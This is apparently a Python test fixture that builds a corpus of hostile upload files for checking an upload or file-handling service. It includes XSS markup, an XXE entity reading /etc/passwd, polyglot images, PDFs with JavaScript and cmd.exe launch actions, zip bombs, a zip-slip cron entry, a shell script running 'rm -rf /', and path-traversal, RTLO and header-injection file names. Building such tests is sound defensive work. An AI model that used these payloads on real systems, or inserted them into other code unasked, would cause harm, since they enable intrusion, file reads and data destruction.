"""A corpus of hostile files, made here: (name, bytes). None of them may be served as active content."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

import pikepdf

from cases.files.kinds import DOCX, ODT
from tests.evidence.conftest import document, photograph, picture

HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
XML = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
MZ = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(200)
ELF = b"\x7fELF\x02\x01\x01" + bytes(200)
_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"


def corpus() -> Iterator[tuple[str, bytes]]:
    yield from _markup()
    yield from _polyglots()
    yield from _pictures()
    yield from _documents()
    yield from _archives()
    yield from _programs()
    yield from _names()


def _markup() -> Iterator[tuple[str, bytes]]:
    for extension in ("jpg", "png", "pdf", "txt", "gif", "docx", "html", "mp4"):
        yield f"html.{extension}", HTML
    for extension in ("jpg", "png", "svg", "txt", "webp"):
        yield f"svg.{extension}", SVG
    for extension in ("pdf", "txt", "xml", "xlsx"):
        yield f"entity.{extension}", XML
    yield "bom.txt", b"\xef\xbb\xbf" + HTML
    yield "spaces.txt", b" \t\r\n" * 300 + HTML
    yield "utf16.txt", HTML.decode().encode("utf-16")
    yield "utf16be.txt", HTML.decode().encode("utf-16-be")
    yield "utf32.txt", HTML.decode().encode("utf-32")
    yield "utf7.txt", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"
    yield "late.txt", b"A letter.\n" + HTML
    yield "comment.txt", b"<!-- -->" + HTML
    yield "latin.txt", b"caf\xe9 " + HTML
    yield "mht.txt", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + HTML
    yield "hta.txt", b"<HTA:APPLICATION><script>new ActiveXObject('x')</script>"


def _polyglots() -> Iterator[tuple[str, bytes]]:
    yield "gif-js.gif", b"GIF89a=1;/*" + bytes(40) + b"*/alert(1)//"
    yield "gif-js.js", b"GIF89a=1;alert(1)//"
    yield "gif-html.gif", picture("GIF") + HTML
    comment = b"\xff\xfe" + struct.pack(">H", len(HTML) + 2) + HTML
    yield "jpeg-comment.jpg", photograph()[:2] + comment + photograph()[2:]
    yield "jpeg-tail.jpg", photograph() + HTML
    yield "png-tail.png", picture() + HTML
    yield "pdf-html.pdf", b"%PDF-1.7\n" + HTML + document()[9:]
    yield "html-pdf.pdf", HTML + document()
    yield "pdf-tail.pdf", document() + HTML
    yield "jar.gif", picture("GIF") + _zip({"META-INF/MANIFEST.MF": b"Main-Class: X"})
    yield "jpeg-zip.jpg", photograph() + _zip({"a.html": HTML})
    yield "bmp-js.jpg", b"BM=1;alert(1)//" + bytes(60)
    yield "mp4-html.mp4", b"\x00\x00\x00\x18ftypmp42" + bytes(12) + HTML
    yield "wav-html.wav", b"RIFF\x24\x00\x00\x00WAVE" + HTML
    yield "id3-html.mp3", b"ID3" + HTML
    yield "ogg-html.ogg", b"OggS" + HTML


def _pictures() -> Iterator[tuple[str, bytes]]:
    yield "cut.jpg", photograph()[:200]
    yield "cut.png", picture(size=(400, 400))[:60]
    yield "huge.png", _huge_png(50_000, 50_000)
    yield "absurd.png", _huge_png(2**31 - 1, 2**31 - 1)
    yield "none.png", _huge_png(0, 0)
    yield "head.gif", b"GIF89a\xff\xff\xff\xff\x00\x00\x00"
    yield "text-bomb.png", _huge_png(1, 1, b"zTXta\0\0" + zlib.compress(bytes(40_000_000)))
    yield "head.webp", b"RIFF\xff\xff\xff\xffWEBPVP8 \xff\xff\xff\xff"


def _documents() -> Iterator[tuple[str, bytes]]:
    act = pikepdf.Dictionary
    yield "js.pdf", document(OpenAction=act(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))
    yield "launch.pdf", document(OpenAction=act(S=pikepdf.Name.Launch, F="cmd.exe"))
    yield "aa.pdf", document(AA=act(WC=act(S=pikepdf.Name.JavaScript, JS="x()")))
    yield "submit.pdf", document(OpenAction=act(S=pikepdf.Name.SubmitForm, F="http://x.example/"))
    yield "goto.pdf", document(OpenAction=act(S=pikepdf.Name.GoToR, F="//x.example/share"))
    yield "xfa.pdf", document(AcroForm=act(XFA=pikepdf.String("<script>x</script>"), Fields=[]))
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.attachments["x.exe"] = MZ
    out = io.BytesIO()
    pdf.save(out)
    yield "carries.pdf", out.getvalue()
    yield "cut.pdf", document()[:80]
    yield "head.pdf", b"%PDF-1.7\n"
    yield (
        "loop.pdf",
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]>>endobj\ntrailer<</Root 1 0 R>>",
    )
    yield "deep.pdf", b"%PDF-1.4\n1 0 obj" + b"[" * 100_000 + b"]" * 100_000 + b"endobj"


def _archives() -> Iterator[tuple[str, bytes]]:
    bomb = bytes(60_000_000)
    yield "bomb.docx", _office(extra={"word/media/a.bmp": bomb})
    yield "bomb.zip", _zip({"a": bomb})
    yield "nested.docx", _office(extra={"word/a.zip": _zip({"b.zip": _zip({"c": bomb})})})
    yield "many.docx", _zip({f"{number}": b"" for number in range(100_000)})
    yield "overlap.docx", _lies_about_size()
    yield "macro.docx", _office(main=_MACRO, extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    yield "hidden-macro.docx", _office(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    yield "ole.docx", _office(extra={"word/embeddings/oleObject1.bin": MZ})
    yield "entity.docx", _office(extra={"word/styles.xml": XML})
    template = (
        b'<Relationships><Relationship Type="http://x/attachedTemplate" '
        b'Target="http://x.example/a.dotm" TargetMode="External"/></Relationships>'
    )
    yield "template.docx", _office(extra={"word/_rels/settings.xml.rels": template})
    yield "slip.docx", _office(extra={"../../../etc/cron.d/x": b"* * * * * root x"})
    yield "exe.docx", _office(extra={"word/media/x.exe": MZ})
    yield "html-inside.docx", _office(extra={"word/afchunk.html": HTML})
    yield "plain.docx", _zip({"index.html": HTML})
    yield "macro.odt", _zip({"mimetype": ODT.media_type.encode(), "Basic/Standard/M.xml": b"<x/>"})
    yield "cut.docx", _office()[:300]
    yield "ole.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    yield "docm.docm", _office(main=_MACRO)
    yield "as.xlsx", _office()


def _programs() -> Iterator[tuple[str, bytes]]:
    yield "run.exe", MZ
    yield "photo.jpg", MZ
    yield "letter.pdf", ELF
    yield "sound.mp3", MZ
    yield "script.txt.sh", b"#!/bin/sh\nrm -rf /\n"
    yield "link.lnk", b"L\0\0\0\x01\x14\x02\0" + bytes(60)
    yield "installer.msi", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)
    yield "flash.gif", b"CWS\x09" + bytes(40)
    yield "class.png", b"\xca\xfe\xba\xbe" + bytes(60)
    yield "wasm.txt", b"\0asm\x01\0\0\0"
    yield "empty.jpg", b""
    yield "nul.txt", bytes(400)
    yield "ps.pdf", b"%!PS-Adobe-3.0\n(x) run"
    yield "rtf.docx", b"{\\rtf1{\\object\\objocx}}"


def _names() -> Iterator[tuple[str, bytes]]:
    text = b"only words"
    yield "photo\u202egpj.exe", MZ
    yield "letter\u202etxt.html", HTML
    yield "../../../../etc/passwd", text
    yield "..\\..\\windows\\system32\\x.txt", text + b"1"
    yield "/etc/cron.d/x.txt", text + b"2"
    yield "a" * 10_000 + ".txt", text + b"3"
    yield "two\r\nContent-Type: text/html\r\n\r\n<script>.txt", text + b"4"
    yield 'quote".html;.txt', text + b"5"
    yield "<img src=x onerror=alert(1)>.txt", text + b"6"
    yield "judgment.pdf.exe", MZ
    yield "run.exe.txt", text + b"7"
    yield "page.html.jpg", HTML
    yield "nul\0byte.php.txt", text + b"8"
    yield ".htaccess", b"AddType text/html .txt"
    yield "CON.txt", text + b"9"
    yield "a.txt::$DATA", text + b"10"
    yield "%2e%2e%2fx.txt", text + b"11"


def _zip(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return out.getvalue()


def _office(main: str = _MAIN, extra: dict[str, bytes] | None = None) -> bytes:
    types = f'<Types><Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
    return _zip({"[Content_Types].xml": types.encode(), "word/document.xml": b"<w/>", **(extra or {})})


def harmless_office() -> bytes:
    """The control of the archives: this one is taken in."""
    assert DOCX.extension == "docx"
    return _office()


def _lies_about_size() -> bytes:
    """A part that unpacks to more than its head says."""
    whole = bytearray(_office(extra={"word/media/a.bin": bytes(90_000)}))
    size = struct.pack("<I", 90_000)
    at = whole.find(size)
    while at >= 0:
        whole[at : at + 4] = struct.pack("<I", 900)
        at = whole.find(size, at + 4)
    return bytes(whole)


def _huge_png(width: int, height: int, more: bytes = b"") -> bytes:
    def chunk(content: bytes) -> bytes:
        return struct.pack(">I", len(content) - 4) + content + struct.pack(">I", zlib.crc32(content))

    head = b"IHDR" + struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = b"IDAT" + zlib.compress(bytes(1000))
    between = chunk(more) if more else b""
    return b"\x89PNG\r\n\x1a\n" + chunk(head) + between + chunk(body) + chunk(b"IEND")
